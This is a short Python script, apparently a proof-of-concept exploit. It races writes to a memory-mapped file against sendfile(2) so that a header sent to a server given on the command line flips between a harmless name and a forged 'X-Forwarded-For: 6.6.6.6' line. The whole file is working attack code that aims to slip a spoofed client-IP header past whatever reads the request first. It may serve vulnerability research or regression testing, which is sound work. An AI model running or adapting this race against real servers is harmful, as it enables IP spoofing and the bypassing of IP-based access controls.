"""Asks over and over by sendfile(2), while somebody else writes to the pages that were sent: what is read of them later
is not what was read of them first. ADDRESS PORT COUNT"""

import mmap
import os
import socket
import sys
import tempfile

HEAD = b"GET /asked HTTP/1.1\r\nHost: a.test\r\n%s: 6.6.6.6\r\n\r\n"
HARMLESS, FORGED = HEAD % b"X-Something-Els", HEAD % b"X-Forwarded-For"

file = tempfile.TemporaryFile()
file.write(HARMLESS)
file.flush()
pages = mmap.mmap(file.fileno(), len(HARMLESS))
parent = os.getpid()
writer = os.fork()
if writer == 0:
    while os.getppid() == parent:
        pages[:] = FORGED
        pages[:] = HARMLESS
    os._exit(0)
client = socket.create_connection((sys.argv[1], int(sys.argv[2])))
client.settimeout(10)
replies = client.makefile("rb")
for number in range(int(sys.argv[3])):
    client.sendall(HARMLESS) if number % 8 == 0 else os.sendfile(client.fileno(), file.fileno(), 0, len(HARMLESS))
    assert replies.readline() == b"HTTP/1.1 200 OK\r\n"
    length = 0
    while (line := replies.readline()) != b"\r\n":
        name, value = line.split(b":", 1)
        if name.lower() == b"content-length":
            length = int(value)
    replies.read(length)
os.kill(writer, 9)
os.waitpid(writer, 0)
